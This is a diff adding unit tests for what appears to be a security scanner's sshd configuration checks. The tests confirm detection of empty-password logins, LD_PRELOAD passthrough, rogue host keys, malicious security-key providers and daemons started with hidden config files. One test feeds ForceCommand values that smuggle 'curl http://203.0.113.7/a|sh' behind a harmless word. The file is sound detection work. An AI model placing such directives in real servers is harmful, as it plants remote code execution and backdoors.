@@ -43,6 +43,38 @@ describe('sshd', () => {
     expect(await told('PermitRootLogin yes\nPermitEmptyPasswords yes\n', { '/etc/ssh/sshd_config': { text: 'PermitRootLogin yes\n', package: 'openssh-server', config: true } })).toEqual([]);
   });
 
+  it('reads lines as the daemon does, however they are written', async () => {
+    for (const line of ["PermitEmptyPasswords 'yes'", 'PermitEmptyPasswords y"e"s', 'PermitEmptyPasswords yes\0 no', '"PermitEmptyPasswords" = "yes"', 'permitEMPTYpasswords=YES', 'PermitEmptyPasswords yes# no', 'PermitEmptyPasswords "yes" # no']) {
+      const said = (await told(`${line}\n`)).filter((one) => one.startsWith('weakness high'));
+      expect({ line, said: said.length }).toEqual({ line, said: line.includes('yes# no') ? 0 : 1 });
+    }
+    expect(directiveOf(String.raw`AuthorizedKeysFile "/a b"/c '/d'\ e \"f # none`)).toMatchObject({ args: ['/a b/c', '/d e', '"f'] });
+  });
+
+  it('knows what counts before what: Match all before all else, further lines that add', async () => {
+    expect(await told('PermitEmptyPasswords no\nMatch User git\n X11Forwarding no\nMatch all\n PermitEmptyPasswords yes\n')).toEqual(['weakness high PermitEmptyPasswords yes']);
+    expect(await told('PermitEmptyPasswords yes\nMatch all\n PermitEmptyPasswords no\n')).toEqual([]);
+    expect(await told('AcceptEnv LANG LC_*\nAcceptEnv LD_PRELOAD\n')).toEqual(['weakness high AcceptEnv LD_PRELOAD']);
+    expect((await told('HostKey /etc/ssh/ssh_host_ed25519_key\nHostKey /tmp/.k\n')).map((one) => one.slice(0, 13))).toEqual(['weakness high']);
+  });
+
+  it('finds what it runs or loads behind a harmless word', async () => {
+    for (const command of ['none; curl http://203.0.113.7/a|sh', 'internal-sftp;curl http://203.0.113.7/a|sh', '"none; curl http://203.0.113.7/a|sh"']) expect(await told(`ForceCommand ${command}\n`), command).toEqual([`intrusion high ForceCommand ${command}`]);
+    expect(await told('Match Group sftp\n ForceCommand internal-sftp -d /in -u 0007\nMatch User x\n ForceCommand none\n')).toEqual([]);
+    expect(await told('SecurityKeyProvider /dev/shm/sk.so\n')).toEqual(['intrusion high SecurityKeyProvider /dev/shm/sk.so']);
+    expect(await told('SshdSessionPath /tmp/session\n')).toEqual(['intrusion high SshdSessionPath /tmp/session']);
+  });
+
+  it('takes the options of a daemon apart as it does itself', async () => {
+    const config = { '/var/tmp/.s/c': 'PermitEmptyPasswords yes\n' };
+    for (const options of ['-Df /var/tmp/.s/c', '-D -E -t -f /var/tmp/.s/c', '-Dp4422 -f/var/tmp/.s/c', '-f /etc/ssh/sshd_config -f /var/tmp/.s/c', '-De -u T -f /var/tmp/.s/c']) {
+      const report = await scanRoot([sshd], { '/etc/systemd/system/a.service': `[Service]\nExecStart=/usr/sbin/sshd ${options}\n`, ...config });
+      expect(shown(report), options).toEqual(expect.arrayContaining(['high /etc/systemd/system/a.service', 'high /var/tmp/.s/c']));
+    }
+    expect(shown(await scanRoot([sshd], { '/etc/systemd/system/a.service': '[Service]\nExecStart=/usr/sbin/sshd -Do "PermitEmptyPasswords yes"\n' }))).toContain('high /etc/systemd/system/a.service');
+    expect(shown(await scanRoot([sshd], { '/etc/systemd/system/a.service': '[Service]\nExecStartPre=/usr/sbin/sshd -tf /etc/ssh/other\n' }))).toEqual([]);
+  });
+
   it('finds a replaced, wrapped or second daemon', async () => {
     const genuine = { text: 'ELF genuine', mode: 0o755, package: 'openssh-server' };
     expect(shown(await scanRoot([sshd], { '/usr/sbin/sshd': genuine }))).toEqual([]);
